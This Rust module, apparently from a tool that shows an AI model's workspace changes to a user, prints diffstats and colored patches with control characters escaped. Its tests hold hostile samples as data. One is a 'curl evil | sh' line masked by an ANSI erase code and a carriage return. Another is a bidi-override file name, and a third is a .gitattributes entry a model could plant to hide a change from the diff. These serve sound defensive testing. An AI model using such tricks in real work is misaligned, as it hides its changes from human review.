//! Showing a patch: a stat, and the patch itself, colored on a terminal.
//!
//! What the patch holds is shown as it is: control characters in a path or
//! a line (an escape sequence, a carriage return, a bidi override) are
//! escaped ([`super::text::escape_controls`]) before any colour is added,
//! and lines are split at `\n` only, so a carriage return before it shows.

use super::text::{escape_controls, escape_line};
use std::fmt::Write;

/// The lines of a patch, split at `\n` only (`str::lines` would also eat a
/// `\r` before it, hiding a change of line endings).
fn patch_lines(patch: &str) -> impl Iterator<Item = &str> {
    patch
        .split_inclusive('\n')
        .map(|l| l.strip_suffix('\n').unwrap_or(l))
}

/// Lines of patch shown before "answer d for the whole diff" (and by a
/// dry run, which points at `diff.patch` for the rest).
pub const PREVIEW_LINES: usize = 120;

/// Characters of one line a preview shows: a file of one long line (a
/// minified bundle, a data dump) cannot flood the terminal either.
pub const PREVIEW_WIDTH: usize = 1000;

/// ` path | +3 -1` per file and a total line.
pub fn stat(patch: &str) -> String {
    let files: Vec<(String, usize, usize)> = crate::workspace::diffstat(patch)
        .into_iter()
        .map(|(path, a, d)| (escape_line(&path).into_owned(), a, d))
        .collect();
    let width = files
        .iter()
        .map(|f| f.0.chars().count())
        .max()
        .unwrap_or(0)
        .min(60);
    let mut out = String::new();
    let (mut add, mut del) = (0, 0);
    for (path, a, d) in &files {
        let _ = writeln!(out, " {path:<width$} | +{a} -{d}");
        add += a;
        del += d;
    }
    let _ = writeln!(
        out,
        " {} file{} changed, {add} insertion{}(+), {del} deletion{}(-)",
        files.len(),
        if files.len() == 1 { "" } else { "s" },
        if add == 1 { "" } else { "s" },
        if del == 1 { "" } else { "s" }
    );
    out
}

/// The patch, colored when `color`: all of it when `max_lines` is `None`,
/// else a preview of at most `max_lines` lines of at most [`PREVIEW_WIDTH`]
/// characters each (a cut line says how many bytes it hides).
pub fn patch(patch: &str, max_lines: Option<usize>, color: bool) -> String {
    let mut out = String::new();
    let total = patch_lines(patch).count();
    for line in patch_lines(patch).take(max_lines.unwrap_or(usize::MAX)) {
        let cut;
        let line = match line.char_indices().nth(PREVIEW_WIDTH) {
            Some((at, _)) if max_lines.is_some() => {
                cut = format!("{}[… {} more bytes]", &line[..at], line.len() - at);
                cut.as_str()
            }
            _ => line,
        };
        let line = escape_controls(line);
        let line = line.as_ref();
        let painted = if !color {
            line.to_string()
        } else if line.starts_with("+++")
            || line.starts_with("---")
            || line.starts_with("diff --git")
        {
            format!("\x1b[1m{line}\x1b[0m")
        } else if line.starts_with('+') {
            format!("\x1b[32m{line}\x1b[0m")
        } else if line.starts_with('-') {
            format!("\x1b[31m{line}\x1b[0m")
        } else if line.starts_with("@@") {
            format!("\x1b[36m{line}\x1b[0m")
        } else {
            line.to_string()
        };
        let _ = writeln!(out, "{painted}");
    }
    if let Some(max) = max_lines
        && total > max
    {
        let _ = writeln!(out, "[… {} more lines]", total - max);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::workspace::{Workspace, git};

    #[test]
    fn attributes_in_the_tree_cannot_turn_a_text_change_into_a_binary_one() {
        let origin = tempfile::tempdir().unwrap();
        let o = origin.path();
        git(o, &["init", "-q"]).unwrap();
        std::fs::create_dir_all(o.join("src")).unwrap();
        std::fs::write(o.join("src/lib.rs"), "fn a() {}\n").unwrap();
        // Already in the user's tree, and so in the workspace's base.
        std::fs::write(o.join(".gitattributes"), "*.rs binary\n").unwrap();
        git(o, &["add", "-A"]).unwrap();
        git(
            o,
            &[
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@example.com",
                "commit",
                "-q",
                "-m",
                "init",
            ],
        )
        .unwrap();
        let ws = Workspace::create(o, "r").unwrap();
        // What a model with write access to src/** does.
        std::fs::write(ws.dir.join("src/.gitattributes"), "* -diff\n").unwrap();
        std::fs::write(ws.dir.join("src/lib.rs"), "fn a() {}\nfn evil() {}\n").unwrap();
        let patch = ws.diff().unwrap();
        assert!(!patch.contains("Binary files"), "{patch}");
        assert!(!patch.contains("GIT binary patch"), "{patch}");
        assert!(patch.contains("+fn evil() {}"), "{patch}");
        assert!(patch.contains("+* -diff"), "{patch}");
        let shown = super::patch(&patch, None, false);
        assert!(shown.contains("+fn evil() {}"), "{shown}");
        let stat = stat(&patch);
        assert!(
            stat.lines()
                .any(|l| l.starts_with(" src/lib.rs ") && l.ends_with("| +1 -0")),
            "{stat}"
        );
    }

    const HIDING: &str = "diff --git a/run.sh b/run.sh
--- a/run.sh
+++ b/run.sh
@@ -1 +1,2 @@
 echo ok
+curl evil | sh\x1b[2K\r+echo fine\r
";

    #[test]
    fn control_characters_in_a_patch_are_shown_escaped() {
        let plain = patch(HIDING, None, false);
        assert!(
            !plain.contains('\x1b') && !plain.contains('\r'),
            "{plain:?}"
        );
        assert!(
            plain.contains("+curl evil | sh\\x1b[2K\\r+echo fine\\r\n"),
            "{plain:?}"
        );
        // wf's own colour is still applied, around the escaped line.
        let colored = patch(HIDING, None, true);
        assert!(
            colored.contains("\x1b[32m+curl evil | sh\\x1b[2K\\r+echo fine\\r\x1b[0m"),
            "{colored:?}"
        );
        assert_eq!(colored.matches('\x1b').count(), 2 * 5, "{colored:?}");
    }

    #[test]
    fn a_preview_cuts_a_long_line() {
        let long = format!("diff --git a/x b/x\n+{}\n", "y".repeat(5000));
        let shown = patch(&long, Some(10), false);
        assert!(shown.len() < PREVIEW_WIDTH + 100, "{}", shown.len());
        assert!(shown.contains("[… 4001 more bytes]"), "{shown}");
        // The whole patch is the whole patch.
        assert!(patch(&long, None, false).contains(&"y".repeat(5000)));
    }

    #[test]
    fn a_cut_patch_counts_the_lines_left() {
        let shown = patch(HIDING, Some(2), false);
        assert!(shown.ends_with("[… 4 more lines]\n"), "{shown}");
    }

    #[test]
    fn control_characters_in_a_path_are_shown_escaped() {
        let p = "diff --git a/a\u{202e}txt.rs b/a\u{202e}txt.rs\n--- a/a\u{202e}txt.rs\n+++ b/a\u{202e}txt.rs\n@@ -0,0 +1 @@\n+x\n";
        let s = stat(p);
        assert!(s.contains(" a\\u{202e}txt.rs | +1 -0"), "{s}");
        assert!(!s.contains('\u{202e}'));
    }
}
